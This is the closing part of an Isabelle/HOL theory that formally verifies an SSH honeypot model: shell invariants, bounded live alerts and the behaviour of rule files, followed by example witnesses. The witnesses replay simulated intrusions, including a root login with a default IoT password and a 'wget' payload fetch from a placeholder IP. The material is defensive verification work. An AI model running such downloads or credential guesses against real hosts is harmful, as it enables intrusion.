  "shells_ok c \<Longrightarrow> (\<And>sh. live_ok (sh_live sh) \<Longrightarrow> live_ok (sh_live (f sh))) \<Longrightarrow> shells_ok (map_shell i f c)"
  by (auto simp: shells_ok_def map_shell_def list_all_length nth_list_update)

lemma shells_frame [simp]:
  "sc_shells (map_session f c) = sc_shells c" "sc_shells (record_client_version wide c) = sc_shells c"
  "sc_shells (note_failed_login e cause c) = sc_shells c" "sc_shells (shell_session e c) = sc_shells c"
  "sc_shells (fst (finalize_once e t reason (c, lg))) = sc_shells c"
  by (simp_all add: map_session_def record_client_version_def note_failed_login_def shell_session_def finalize_once_def Let_def
      split: option.split list.split)

lemma engine_shells: "engine_process e now raw c = (reply, c') \<Longrightarrow> sc_shells c' = sc_shells c"
  by (auto simp: engine_process_def split: option.splits prod.splits)

lemma shells_ok_cong: "sc_shells c' = sc_shells c \<Longrightarrow> shells_ok c \<Longrightarrow> shells_ok c'"
  by (simp add: shells_ok_def)

lemma live_ok_new: "live_ok (sh_live new_shell)"
  by (simp add: new_shell_def no_live_results_def live_ok_def)

lemma shells_ok_start: "shells_ok c \<Longrightarrow> start_shell e c = Some c' \<Longrightarrow> shells_ok c'"
  using live_ok_new by (auto simp: start_shell_def shells_ok_def split: outcome.splits)

lemma shells_ok_writes: "shells_ok c \<Longrightarrow> shells_ok (shell_writes i out c)"
  unfolding shell_writes_def by (rule shells_ok_map_shell) simp_all

lemma shells_ok_end: "shells_ok c \<Longrightarrow> shells_ok (fst (end_shell e t i reason (c, lg)))"
  unfolding end_shell_def
  by (rule shells_ok_cong [OF _ shells_ok_map_shell [of "c\<lparr>sc_end_reason := reason\<rparr>" "\<lambda>sh. sh\<lparr>sh_running := False, sh_unsent := None\<rparr>" i]])
    (simp_all add: shells_ok_def)

lemma shells_ok_answer: "shells_ok c \<Longrightarrow> shells_ok (fst (answer_line e t i response (c, lg)))"
  by (auto simp: answer_line_def intro: shells_ok_end shells_ok_writes shells_ok_map_shell)

lemma shells_ok_step:
  assumes "shells_ok c" shows "shells_ok (fst (ssh_step e event (c, lg)))"
proof (cases event)
  case (Runs_Command t now command)
  show ?thesis
  proof (cases "start_shell e c")
    case None
    then show ?thesis using Runs_Command assms by (simp add: exec_shell_def shells_ok_def)
  next
    case (Some c1)
    obtain reply c2 where run: "engine_process e now command c1 = (reply, c2)" by force
    have "shells_ok c2" by (rule shells_ok_cong [OF engine_shells [OF run] shells_ok_start [OF assms Some]])
    then show ?thesis using Runs_Command Some run
      by (cases reply) (simp_all add: exec_shell_def Let_def shells_ok_end shells_ok_writes)
  qed
next
  case (Types_Line t i now raw)
  obtain reply c2 where run: "engine_process e now (rstrip_if (\<lambda>c. c = carriage \<or> c = newline) raw) c = (reply, c2)" by force
  have "shells_ok c2" by (rule shells_ok_cong [OF engine_shells [OF run] assms])
  then show ?thesis using Types_Line run assms
    by (cases reply) (simp_all add: shell_line_def shells_ok_end shells_ok_answer)
next
  case (Opens_Shell last_login net host)
  then show ?thesis using assms shells_ok_start [OF assms]
    by (auto simp: open_shell_def shells_ok_writes shells_ok_cong [of "shell_session e c" c] split: option.split)
next
  case (Live_Check i now later)
  then show ?thesis using assms
    by (auto simp: shell_checked_def intro!: shells_ok_map_shell live_ok_check split: option.split outcome.split)
next
  case (Sleep_Ends i)
  then show ?thesis using assms
    by (auto simp: shell_slept_def intro!: shells_ok_map_shell split: option.split)
next
  case (Lost t cause)
  then show ?thesis using assms by (simp add: connection_lost_def Let_def shells_ok_def)
next
  case (Stays_Silent t i)
  then show ?thesis using assms by (simp add: shell_timed_out_def shells_ok_end shells_ok_writes)
qed (use assms in \<open>simp_all add: begin_auth_def validate_password_def note_client_host_key_algs_def shells_ok_end,
    simp_all add: shells_ok_def\<close>)

lemma distinct_bound: "sorted_wrt (<) (xs :: nat list) \<Longrightarrow> set xs \<subseteq> {2, 3, 4} \<Longrightarrow> length xs \<le> 3"
  using card_mono [of "{2 :: nat, 3, 4}" "set xs"] distinct_card [of xs] by (simp add: strict_sorted_iff)

text \<open>However long a connection lasts, each of its shells asks for at most three live alerts, each of a
  higher level than the one before, and slows its answers by at most two seconds.\<close>

theorem live_alerts_bounded:
  assumes "sh \<in> set (sc_shells (fst (ssh_run e events (connection_made admitted sid start p prs applied, lg))))"
  shows "length (lv_alerts (sh_live sh)) \<le> 3
    \<and> sorted_wrt (\<lambda>a b. sum_risk_level (snd a) < sum_risk_level (snd b)) (lv_alerts (sh_live sh))
    \<and> lv_delay (sh_live sh) \<in> {0..2}"
proof -
  have "shells_ok (fst (ssh_run e events (c, lg)))" if "shells_ok c" for c
    using that
  proof (induction events arbitrary: c lg)
    case (Cons event events)
    then show ?case using shells_ok_step [OF Cons.prems, of e event lg]
      by (cases "ssh_step e event (c, lg)") (simp add: ssh_run_def)
  qed (simp add: ssh_run_def)
  moreover have "shells_ok (connection_made admitted sid start p prs applied)"
    by (simp add: connection_made_def new_ssh_server_def shells_ok_def)
  ultimately have ok: "live_ok (sh_live sh)" using assms by (auto simp: shells_ok_def list_all_iff)
  then have "sorted_wrt (\<lambda>a b. sum_risk_level (snd a) < sum_risk_level (snd b)) (lv_alerts (sh_live sh))"
    by (simp add: live_ok_def Let_def sorted_wrt_map less_risk_level_def)
  moreover have "length (lv_alerts (sh_live sh)) \<le> 3"
    using distinct_bound [of "map (\<lambda>a. risk_rank (sum_risk_level (snd a))) (lv_alerts (sh_live sh))"] ok
    by (simp add: live_ok_def Let_def)
  ultimately show ?thesis using ok by (simp add: live_ok_def)
qed

text \<open>A rules file without any of the live rules is valid, and closes the SSH decoy: no shell opens, whatever
  the client asks for, and nothing is written to it.\<close>

theorem no_live_rules_no_shell:
  assumes "rule_set_ok rs" "\<forall>r \<in> set (rules rs). rule_id r \<notin> set LIVE_RULE_IDS"
    and "se_live_rules e = fst (load_live_rules (Done rs) None)"
  shows "sc_shells (open_shell e last_login net host c) = sc_shells c
    \<and> sc_shells (fst (exec_shell e t now command (c, lg))) = sc_shells c
    \<and> snd (exec_shell e t now command (c, lg)) = lg"
proof -
  have "filter (\<lambda>r. rule_id r \<in> set LIVE_RULE_IDS) (rules rs) = []" using assms(2) by (simp add: filter_empty_conv)
  then have "\<exists>x. se_live_rules e = Raised x"
    using assms(3) by (simp add: load_live_rules_def live_rules_of_def rule_set_ok_def)
  then have "start_shell e c = None" by (auto simp: start_shell_def)
  then show ?thesis by (simp add: open_shell_def exec_shell_def Let_def)
qed

section \<open>Examples\<close>

definition example_ssh_env :: ssh_env where
  "example_ssh_env = \<lparr>se_engine = plain_env, se_log = example_log_env, se_wide = (\<lambda>_. False), se_live_rules = Done burst_rules\<rparr>"

definition ends_at :: "rat \<Rightarrow> end_clocks" where
  "ends_at t = \<lparr>ec_ended = t, ec_now = 0, ec_later = 0\<rparr>"

definition example_connection :: ssh_connection where
  "example_connection = connection_made True (lit ''s'') 5 NoPeer generic_linux None"

theorem ssh_handed_on_once_witness:
  "handed_on example_ssh_env (lit ''s'') generic_linux (example_log [])
    (snd (ssh_run example_ssh_env
      ([Version_Read (lit ''SSH-2.0-Go''), Begins_Auth, Sends_Password 6 7 (lit ''root'') (lit ''xc3511''),
        Runs_Command (ends_at 9) 8 (lit ''id'')] @ Lost (ends_at 10) None # [Begins_Auth])
      (connection_made True (lit ''s'') 5 NoPeer generic_linux None, example_log [])))"
proof (rule ssh_handed_on_once)
  show "validate_persona generic_linux = Done ()" by code_simp
  show "origin_ok (le_ip_ok (se_log example_ssh_env)) (le_uuid_ok (se_log example_ssh_env)) (new_session (lit ''s'') 5 NoPeer generic_linux)"
    by code_simp
qed (simp add: ends_at_def)

theorem second_command_unrecorded_witness:
  "let first_run = ssh_run example_ssh_env [Runs_Command (ends_at 7) 6 (lit ''id'')] (example_connection, example_log []);
     later = Runs_Command (ends_at 9) 8 (lit ''wget http://198.51.100.7/x'')
   in snd (ssh_run example_ssh_env [later] first_run) = snd first_run
      \<and> (\<exists>s'. sc_session (fst (exec_shell example_ssh_env (ends_at 9) 8 (lit ''wget http://198.51.100.7/x'')
            (fst first_run, snd first_run))) = Some s'
           \<and> \<lparr>ev_cmd = loggable (strip (lit ''wget http://198.51.100.7/x'')), ev_time = 8\<rparr> \<in> set (commands s'))"
proof -
  let ?second = "lit ''wget http://198.51.100.7/x''"
  obtain c1 lg1 where first: "ssh_run example_ssh_env [Runs_Command (ends_at 7) 6 (lit ''id'')] (example_connection, example_log []) = (c1, lg1)"
    by force
  obtain c2 lg2 where later: "ssh_run example_ssh_env (Runs_Command (ends_at 9) 8 ?second # []) (c1, lg1) = (c2, lg2)" by force
  have start: "sc_session example_connection = Some (new_session (lit ''s'') 5 NoPeer generic_linux)"
    "se_live_rules example_ssh_env = Done burst_rules"
    by (simp_all add: example_connection_def connection_made_def new_ssh_server_def example_ssh_env_def)
  have "strip ?second \<noteq> []" by code_simp
  from second_command_unrecorded [OF start this first later] show ?thesis
    unfolding Let_def first later by simp
qed

lemma example_shell: "hd (sc_shells (fst (ssh_run example_ssh_env [Opens_Shell (lit ''Mon'') 4 7, Live_Check 0 40 41]
    (example_connection, example_log [])))) \<in> set (sc_shells (fst (ssh_run example_ssh_env
      [Opens_Shell (lit ''Mon'') 4 7, Live_Check 0 40 41] (example_connection, example_log []))))"
  by (rule hd_in_set)
    (simp add: ssh_run_def open_shell_def start_shell_def example_ssh_env_def example_connection_def connection_made_def
      new_ssh_server_def shell_writes_def map_shell_def shell_checked_def shell_session_def record_client_version_def map_session_def)

theorem live_alerts_bounded_witness:
  "let sh = hd (sc_shells (fst (ssh_run example_ssh_env [Opens_Shell (lit ''Mon'') 4 7, Live_Check 0 40 41]
       (example_connection, example_log []))))
   in length (lv_alerts (sh_live sh)) \<le> 3
    \<and> sorted_wrt (\<lambda>a b. sum_risk_level (snd a) < sum_risk_level (snd b)) (lv_alerts (sh_live sh))
    \<and> lv_delay (sh_live sh) \<in> {0..2}"
  unfolding Let_def by (rule live_alerts_bounded [OF example_shell [unfolded example_connection_def], folded example_connection_def])

definition custom_rules :: rule_set where
  "custom_rules = burst_rules\<lparr>rules := [discovery_burst\<lparr>rule_id := lit ''site_rule''\<rparr>]\<rparr>"

theorem no_live_rules_no_shell_witness:
  "let e = example_ssh_env\<lparr>se_live_rules := fst (load_live_rules (Done custom_rules) None)\<rparr>
   in sc_shells (open_shell e (lit ''Mon'') 4 7 example_connection) = sc_shells example_connection
    \<and> sc_shells (fst (exec_shell e (ends_at 9) 8 (lit ''id'') (example_connection, example_log []))) = sc_shells example_connection
    \<and> snd (exec_shell e (ends_at 9) 8 (lit ''id'') (example_connection, example_log [])) = example_log []"
  unfolding Let_def
proof (rule no_live_rules_no_shell [of custom_rules])
  show "rule_set_ok custom_rules" by code_simp
  show "\<forall>r \<in> set (rules custom_rules). rule_id r \<notin> set LIVE_RULE_IDS"
    by (simp add: custom_rules_def LIVE_RULE_IDS_def)
qed simp

end
